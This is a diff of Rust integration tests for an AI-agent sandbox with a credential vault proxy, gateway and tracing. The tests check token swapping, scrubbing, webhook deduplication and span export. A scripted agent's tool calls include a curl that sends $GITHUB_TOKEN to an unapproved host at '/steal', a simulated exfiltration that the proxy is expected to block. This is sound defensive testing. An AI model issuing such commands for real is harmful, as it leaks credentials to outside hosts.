@@ -30,7 +30,8 @@ struct Setup {
 }
 
 /// The scripted model: provision with `GITHUB_TOKEN`, print the stub and the proxy URL (so
-/// the test knows them), a swap toward the bound host, a block toward the unbound one, answer.
+/// the test knows them), a swap toward the bound host (whose answer reflects the real token,
+/// so the proxy scrubs it), a block toward the unbound one, answer.
 fn script(dir: &std::path::Path, port: u16) -> PathBuf {
     let path = dir.join("script.json");
     let calls = json!({"responses": [
@@ -41,7 +42,7 @@ fn script(dir: &std::path::Path, port: u16) -> PathBuf {
                          "arguments": {"command": "printf '%s\\n%s\\n' \"$GITHUB_TOKEN\" \"$HTTPS_PROXY\""}}],
          "usage": {"input_tokens": 200, "output_tokens": 20}},
         {"tool_calls": [{"id": "e2", "name": "sandbox_execute",
-                         "arguments": {"command": format!("curl -sS -m 20 https://{BOUND_HOST}:{port}/user -H \"Authorization: Bearer $GITHUB_TOKEN\"")}},
+                         "arguments": {"command": format!("curl -sS -m 20 https://{BOUND_HOST}:{port}/echo-token -H \"Authorization: Bearer $GITHUB_TOKEN\"")}},
                         {"id": "e3", "name": "sandbox_execute",
                          "arguments": {"command": format!("curl -sS -m 20 -w '\\n%{{http_code}}' https://{UNBOUND_HOST}:{port}/steal -H \"Authorization: Bearer $GITHUB_TOKEN\"")}}],
          "usage": {"input_tokens": 300, "output_tokens": 30}},
@@ -141,12 +142,17 @@ async fn one_trace_per_session_joins_the_brain_gateway_and_vault() {
         .and_then(|(cred, _)| cred.split_once(':'))
         .map(|(_, token)| token.to_owned())
         .unwrap_or_else(|| panic!("no token in {proxy_url:?}"));
-    // The swap reached the upstream with the real token; the block did not.
+    // The swap reached the upstream with the real token, whose answer came back scrubbed;
+    // the block did not reach it.
     assert!(
-        outputs[1]["stdout"].as_str().unwrap().contains("ok /user"),
+        outputs[1]["stdout"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("your token is {stub}")),
         "{}",
         outputs[1]
     );
+    assert_eq!(s.upstream.with_path("/echo-token").len(), 1);
     assert!(
         outputs[2]["stdout"].as_str().unwrap().ends_with("403"),
         "{}",
@@ -402,6 +408,30 @@ async fn metrics_after_a_session_with_a_sandbox_a_swap_a_block_and_a_webhook() {
         .await
         .unwrap();
     assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
+    // A signed reply in a thread that has no session: accepted (recorded, nothing to do);
+    // delivered again (Slack retries with the same event id): deduplicated.
+    let body = json!({"type": "event_callback", "event_id": "Ev-telemetry-1",
+        "event": {"type": "message", "user": "U123", "text": "hello", "ts": "1700000000.000200",
+                  "thread_ts": "1700000000.000100", "channel": "C1", "channel_type": "channel"}})
+    .to_string();
+    for _ in 0..2 {
+        let ts = chrono::Utc::now().timestamp().to_string();
+        let resp = s
+            .brain
+            .http
+            .post(s.brain.url("/hooks/slack"))
+            .header("x-slack-request-timestamp", &ts)
+            .header(
+                "x-slack-signature",
+                airlock_tests::fake_slack::sign(SLACK_SECRET, &ts, body.as_bytes()),
+            )
+            .header("content-type", "application/json")
+            .body(body.clone())
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(resp.status(), StatusCode::OK);
+    }
 
     let text = s
         .brain
@@ -435,10 +465,29 @@ async fn metrics_after_a_session_with_a_sandbox_a_swap_a_block_and_a_webhook() {
             1.0,
         ),
         ("airlock_brain_session_resumes_total", 0.0),
-        // Triggers: the refused webhook.
+        ("airlock_brain_sessions{status=\"queued\"}", 0.0),
+        ("airlock_brain_sessions{status=\"running\"}", 0.0),
+        (
+            "airlock_brain_session_failures_total{reason=\"model_error\"}",
+            0.0,
+        ),
+        // Triggers: the refused, accepted and deduplicated webhooks; no reply owed.
         (
             "airlock_triggers_webhooks_total{source=\"slack\",outcome=\"refused\"}",
             1.0,
+        ),
+        (
+            "airlock_triggers_webhooks_total{source=\"slack\",outcome=\"accepted\"}",
+            1.0,
+        ),
+        (
+            "airlock_triggers_webhooks_total{source=\"slack\",outcome=\"deduplicated\"}",
+            1.0,
+        ),
+        ("airlock_triggers_replies_pending", 0.0),
+        (
+            "airlock_triggers_outbox_retries_total{source=\"slack\"}",
+            0.0,
         ),
         // Gateway (embedded): four answered calls.
         ("airlock_gateway_requests_total{model=\"scripted\"}", 4.0),
@@ -446,8 +495,20 @@ async fn metrics_after_a_session_with_a_sandbox_a_swap_a_block_and_a_webhook() {
             "airlock_gateway_tokens_total{model=\"scripted\",kind=\"input\"}",
             1000.0,
         ),
+        ("airlock_gateway_retries_total", 0.0),
+        ("airlock_gateway_fallbacks_total", 0.0),
+        (
+            "airlock_gateway_upstream_errors_total{class=\"server\"}",
+            0.0,
+        ),
+        ("airlock_gateway_ratelimit_hits_total{scope=\"key\"}", 0.0),
         // Vault (embedded): one swap, one block, the audit healthy.
         ("airlock_vault_swaps_total", 1.0),
+        ("airlock_vault_scrubs_total", 1.0),
+        (
+            "airlock_vault_tls_handshake_failures_total{side=\"client\"}",
+            0.0,
+        ),
         (
             "airlock_vault_blocks_total{reason=\"credential_not_allowed_for_host\"}",
             1.0,
@@ -475,6 +536,7 @@ async fn metrics_after_a_session_with_a_sandbox_a_swap_a_block_and_a_webhook() {
         "airlock_sandbox_provision_duration_seconds_bucket",
         "airlock_brain_sessions{",
         "airlock_brain_session_cost_usd_total",
+        "airlock_gateway_spend_usd_total{model=\"scripted\"}",
         "airlock_triggers_replies_pending",
         "airlock_gateway_request_duration_seconds_bucket",
         "airlock_vault_tunnels_total",
@@ -513,5 +575,402 @@ async fn metrics_after_a_session_with_a_sandbox_a_swap_a_block_and_a_webhook() {
             );
         }
         Err(e) => assert!(!required, "promtool required but not runnable: {e}"),
+    }
+}
+
+fn free_port() -> u16 {
+    std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port()
+}
+
+/// Kills the standalone proxy when the test ends, however it ends.
+struct Kill(std::process::Child);
+impl Drop for Kill {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// The standalone `vault-proxy` takes its collector from its own config
+/// (`telemetry.otlp_endpoint`, DESIGN.md "Telemetry") and exports the egress decisions of a
+/// grant issued under a trace (the brain's `traceparent`) into that trace.
+#[tokio::test]
+async fn the_standalone_vault_exports_egress_spans_to_its_configured_collector() {
+    const ADMIN_TOKEN: &str = "telemetry-admin-token-0123456789";
+    const TRACEPARENT: &str = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01";
+    let receiver = OtlpReceiver::start().await;
+    let upstream = Upstream::start(REAL_TOKEN).await;
+    let dir = tempfile::tempdir().unwrap();
+    let config = write_vault_config(dir.path(), &upstream);
+    let (port, admin_port) = (free_port(), free_port());
+    let yaml = std::fs::read_to_string(&config).unwrap().replacen(
+        "listen: 127.0.0.1:0\n",
+        &format!("listen: 127.0.0.1:{port}\nadmin_listen: 127.0.0.1:{admin_port}\n"),
+        1,
+    );
+    std::fs::write(
+        &config,
+        format!("{yaml}telemetry:\n  otlp_endpoint: {}\n", receiver.endpoint),
+    )
+    .unwrap();
+    let log = dir.path().join("vault.log");
+    let child = std::process::Command::new(airlock_tests::bin_path("vault-proxy"))
+        .args(["serve", "--config"])
+        .arg(&config)
+        .env(airlock_tests::vault::REAL_TOKEN_ENV, REAL_TOKEN)
+        .env("AIRLOCK_VAULT_ADMIN_TOKEN", ADMIN_TOKEN)
+        .env("AIRLOCK_LOG_FORMAT", "json")
+        .env_remove("OTEL_EXPORTER_OTLP_ENDPOINT")
+        .env_remove("OTEL_EXPORTER_OTLP_TRACES_ENDPOINT")
+        .env_remove("OTEL_SDK_DISABLED")
+        .stdout(std::fs::File::create(&log).unwrap())
+        .stderr(std::fs::File::create(dir.path().join("vault.err")).unwrap())
+        .spawn()
+        .unwrap();
+    let _child = Kill(child);
+    let http = airlock_tests::http_client();
+    let admin = format!("http://127.0.0.1:{admin_port}");
+    let ready = airlock_tests::eventually(Duration::from_secs(20), || {
+        std::net::TcpStream::connect(("127.0.0.1", admin_port)).is_ok()
+            && std::net::TcpStream::connect(("127.0.0.1", port)).is_ok()
+    })
+    .await;
+    assert!(
+        ready,
+        "the proxy did not start: {}",
+        std::fs::read_to_string(dir.path().join("vault.err")).unwrap_or_default()
+    );
+    let grant: Value = http
+        .post(format!("{admin}/v1/grants"))
+        .bearer_auth(ADMIN_TOKEN)
+        .json(
+            &json!({"sandbox": "sb-otel", "credentials": ["GITHUB_TOKEN"],
+                      "traceparent": TRACEPARENT}),
+        )
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let token = grant["token"].as_str().expect("token").to_owned();
+    let stub = grant["stubs"]["GITHUB_TOKEN"]
+        .as_str()
+        .expect("stub")
+        .to_owned();
+    // Async: the upstream serves on this test's runtime.
+    let curl = async |host: &str, path: &str| {
+        let out = tokio::process::Command::new("curl")
+            .args(["-sS", "-m", "20", "-w", "\n%{http_code}", "--cacert"])
+            .arg(dir.path().join("ca.pem"))
+            .args(["--proxy", &format!("http://127.0.0.1:{port}")])
+            .args(["--proxy-user", &format!("sb-otel:{token}")])
+            .args(["-H", &format!("Authorization: Bearer {stub}")])
+            .arg(format!("https://{host}:{}{path}", upstream.port))
+            .output()
+            .await
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    let swapped = curl(BOUND_HOST, "/user").await;
+    assert!(swapped.ends_with("200"), "{swapped}");
+    let blocked = curl(UNBOUND_HOST, "/steal").await;
+    assert!(blocked.ends_with("403"), "{blocked}");
+
+    let want_trace = "0af7651916cd43dd8448eb211c80319c";
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let egress = loop {
+        let egress: Vec<ReceivedSpan> = receiver
+            .spans()
+            .into_iter()
+            .filter(|sp| sp.name == "vault.egress")
+            .collect();
+        let has = |event: &str| {
+            egress
+                .iter()
+                .any(|sp| sp.attr("airlock.egress.event") == Some(event))
+        };
+        if has("swap") && has("block") {
+            break egress;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "no swap and block spans after 20 s ({} requests): {egress:#?}\n{}",
+            receiver.requests(),
+            std::fs::read_to_string(dir.path().join("vault.err")).unwrap_or_default()
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    };
+    for sp in &egress {
+        assert_eq!(sp.service, "airlock-vault-proxy", "{sp:?}");
+        assert_eq!(sp.trace_id, want_trace, "{sp:?}");
+        assert_eq!(sp.parent_span_id, "b7ad6b7169203331", "{sp:?}");
+        for text in &sp.all_text {
+            for secret in [REAL_TOKEN, stub.as_str(), token.as_str()] {
+                assert!(!text.contains(secret), "a secret in {sp:?}");
+            }
+        }
+    }
+    let swap = egress
+        .iter()
+        .find(|sp| sp.attr("airlock.egress.event") == Some("swap"))
+        .unwrap();
+    assert_eq!(swap.attr("server.address"), Some(BOUND_HOST));
+    assert_eq!(swap.attr("airlock.credential"), Some("GITHUB_TOKEN"));
+    assert_eq!(swap.attr("airlock.egress.decision"), Some("allow"));
+    let block = egress
+        .iter()
+        .find(|sp| sp.attr("airlock.egress.event") == Some("block"))
+        .unwrap();
+    assert_eq!(block.attr("server.address"), Some(UNBOUND_HOST));
+    assert_eq!(block.attr("airlock.egress.decision"), Some("deny"));
+    // The audit records carry the same trace id.
+    let audit = std::fs::read_to_string(dir.path().join("audit.jsonl")).unwrap();
+    let swaps: Vec<Value> = audit
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .filter(|r| r["event"] == "swap")
+        .collect();
+    assert_eq!(swaps.len(), 1, "{audit}");
+    assert_eq!(swaps[0]["trace_id"], want_trace, "{audit}");
+}
+
+/// A session whose brain is killed (SIGKILL) mid-run and resumed by the restarted brain stays
+/// one trace: the resumed run's `session` span joins the stored trace context, under the
+/// first run's root (which never ended, so it was never exported).
+#[tokio::test]
+async fn a_session_resumed_after_a_brain_is_killed_continues_its_trace() {
+    let receiver = OtlpReceiver::start().await;
+    let dir = tempfile::tempdir().unwrap();
+    let marker = dir.path().join("ran");
+    let script = dir.path().join("resume.json");
+    std::fs::write(
+        &script,
+        json!({"responses": [
+            {"tool_calls": [{"id": "p", "name": "sandbox_provision",
+                             "arguments": {"task_description": "crash test"}}]},
+            {"tool_calls": [{"id": "slow", "name": "sandbox_execute",
+                             "arguments": {"command": format!("echo ran >> {}; sleep 30", marker.display())}}]},
+            {"tool_calls": [{"id": "after", "name": "sandbox_execute",
+                             "arguments": {"command": "echo after the restart"}}]},
+            {"text": "recovered"}
+        ]})
+        .to_string(),
+    )
+    .unwrap();
+    let opts = airlock_tests::BrainOptions {
+        extra_yaml: format!(
+            "models:\n  model_list:\n    - model_name: scripted\n      litellm_params:\n        model: scripted/{}\ntelemetry:\n  otlp_endpoint: {}\n",
+            script.display(),
+            receiver.endpoint
+        ),
+        ..Default::default()
+    };
+    let mut brain = BrainProcess::start(opts).await;
+    let (status, reply) = brain
+        .post_json("/v1/sessions", json!({"task": "survive a crash"}))
+        .await;
+    assert_eq!(status, StatusCode::CREATED, "{reply}");
+    let id = reply["id"].as_str().unwrap().to_owned();
+    // The slow command runs, and the first run's finished spans (two model calls, the
+    // provision) have been exported: then the brain dies.
+    let deadline = Instant::now() + Duration::from_secs(30);
+    let first_trace = loop {
+        let ran = std::fs::read_to_string(&marker).is_ok_and(|s| s.lines().count() == 1);
+        let spans = receiver.spans();
+        let models: Vec<&ReceivedSpan> = spans.iter().filter(|s| s.name == "model.call").collect();
+        if ran && models.len() >= 2 {
+            break models[0].trace_id.clone();
+        }
+        assert!(
+            Instant::now() < deadline,
+            "the first run did not get to the slow command: {:?}\n{}",
+            spans.iter().map(|s| &s.name).collect::<Vec<_>>(),
+            brain.log()
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    };
+    let before_kill = receiver.spans();
+    brain.kill9();
+    brain.restart().await;
+    let deadline = Instant::now() + Duration::from_secs(60);
+    loop {
+        let (_, s) = brain.get_json(&format!("/v1/sessions/{id}")).await;
+        if matches!(
+            s["status"].as_str(),
+            Some("succeeded" | "failed" | "cancelled")
+        ) {
+            assert_eq!(s["status"], "succeeded", "{s}\n{}", brain.log());
+            break;
+        }
+        assert!(Instant::now() < deadline, "stuck: {s}\n{}", brain.log());
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    let (_, reply) = brain.get_json(&format!("/v1/sessions/{id}/events")).await;
+    let events = reply["events"].as_array().unwrap().clone();
+    assert!(
+        events.iter().any(|e| e["kind"] == "resumed"),
+        "not resumed: {events:#?}"
+    );
+    // Every event, before and after the kill, names the one trace.
+    for e in &events {
+        assert_eq!(
+            e["data"]["trace_id"].as_str(),
+            Some(first_trace.as_str()),
+            "event outside the session's trace: {e}"
+        );
+    }
+    // The resumed run's root span: in the first trace, under the first run's root.
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let resumed = loop {
+        let found = receiver.spans().into_iter().find(|sp| {
+            sp.name == "session"
+                && sp.attr("session.id") == Some(id.as_str())
+                && sp.attr("session.continued") == Some("true")
+        });
+        if let Some(sp) = found {
+            tokio::time::sleep(Duration::from_millis(1200)).await;
+            break sp;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "no resumed session span\n{}",
+            brain.log()
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    };
+    assert_eq!(resumed.trace_id, first_trace);
+    let first_root = resumed.parent_span_id.clone();
+    assert!(!first_root.is_empty());
+    // The model calls exported before the kill hang under that same root.
+    let early: Vec<&ReceivedSpan> = before_kill
+        .iter()
+        .filter(|sp| sp.name == "model.call")
+        .collect();
+    assert!(early.len() >= 2);
+    for m in &early {
+        assert_eq!(m.trace_id, first_trace, "{m:?}");
+        assert_eq!(m.parent_span_id, first_root, "{m:?}");
+    }
+    // After the restart: the remaining model calls under the resumed run, nothing of the
+    // session in another trace.
+    let spans = receiver.spans();
+    let later: Vec<&ReceivedSpan> = spans
+        .iter()
+        .filter(|sp| sp.name == "model.call" && sp.parent_span_id == resumed.span_id)
+        .collect();
+    assert_eq!(later.len(), 2, "{spans:#?}");
+    for sp in &spans {
+        if sp.attr("session.id") == Some(id.as_str()) {
+            assert_eq!(sp.trace_id, first_trace, "{sp:?}");
+        }
+    }
+    // The resume counted.
+    let text = brain
+        .http
+        .get(brain.url("/metrics"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert_eq!(
+        sample(&text, "airlock_brain_session_resumes_total"),
+        Some(1.0),
+        "{text}"
+    );
+}
+
+/// The standalone `gateway` takes its collector from its own config (`telemetry.otlp_endpoint`,
+/// a top-level key next to LiteLLM's) and joins each request to the caller's `traceparent`.
+#[tokio::test]
+async fn the_standalone_gateway_exports_its_spans_to_its_configured_collector() {
+    const TRACEPARENT: &str = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
+    let receiver = OtlpReceiver::start().await;
+    let dir = tempfile::tempdir().unwrap();
+    let script = dir.path().join("s.json");
+    std::fs::write(
+        &script,
+        json!({"responses": [{"text": "hi", "usage": {"input_tokens": 7, "output_tokens": 2}}]})
+            .to_string(),
+    )
+    .unwrap();
+    let config = dir.path().join("config.yaml");
+    std::fs::write(
+        &config,
+        format!(
+            "model_list:\n  - model_name: scripted\n    litellm_params:\n      model: scripted/{}\n\
+             general_settings:\n  master_key: sk-telemetry-master\n\
+             telemetry:\n  otlp_endpoint: {}\n",
+            script.display(),
+            receiver.endpoint
+        ),
+    )
+    .unwrap();
+    let port = free_port();
+    let child = std::process::Command::new(airlock_tests::bin_path("gateway"))
+        .arg("--config")
+        .arg(&config)
+        .args([
+            "--listen",
+            &format!("127.0.0.1:{port}"),
+            "--database-url",
+            "memory",
+        ])
+        .env_remove("OTEL_EXPORTER_OTLP_ENDPOINT")
+        .env_remove("OTEL_EXPORTER_OTLP_TRACES_ENDPOINT")
+        .env_remove("OTEL_SDK_DISABLED")
+        .env_remove("LITELLM_MASTER_KEY")
+        .stdout(std::process::Stdio::null())
+        .stderr(std::fs::File::create(dir.path().join("gateway.err")).unwrap())
+        .spawn()
+        .unwrap();
+    let _child = Kill(child);
+    let up = airlock_tests::eventually(Duration::from_secs(20), || {
+        std::net::TcpStream::connect(("127.0.0.1", port)).is_ok()
+    })
+    .await;
+    assert!(
+        up,
+        "{}",
+        std::fs::read_to_string(dir.path().join("gateway.err")).unwrap_or_default()
+    );
+    let resp = airlock_tests::http_client()
+        .post(format!("http://127.0.0.1:{port}/v1/chat/completions"))
+        .bearer_auth("sk-telemetry-master")
+        .header("traceparent", TRACEPARENT)
+        .json(&json!({"model": "scripted", "messages": [{"role": "user", "content": "hello"}]}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), StatusCode::OK);
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let spans = loop {
+        let spans = receiver.spans();
+        if spans.iter().any(|s| s.name == "gateway.request") {
+            break spans;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "no gateway spans after 20 s: {spans:#?}\n{}",
+            std::fs::read_to_string(dir.path().join("gateway.err")).unwrap_or_default()
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    };
+    let request = spans.iter().find(|s| s.name == "gateway.request").unwrap();
+    assert_eq!(request.service, "airlock-gateway");
+    assert_eq!(request.trace_id, "4bf92f3577b34da6a3ce929d0e0e4736");
+    assert_eq!(request.parent_span_id, "00f067aa0ba902b7");
+    assert_eq!(request.attr("http.route"), Some("/v1/chat/completions"));
+    assert_eq!(request.attr("http.response.status_code"), Some("200"));
+    for sp in &spans {
+        for text in &sp.all_text {
+            assert!(!text.contains("sk-telemetry-master"), "{sp:?}");
+        }
     }
 }
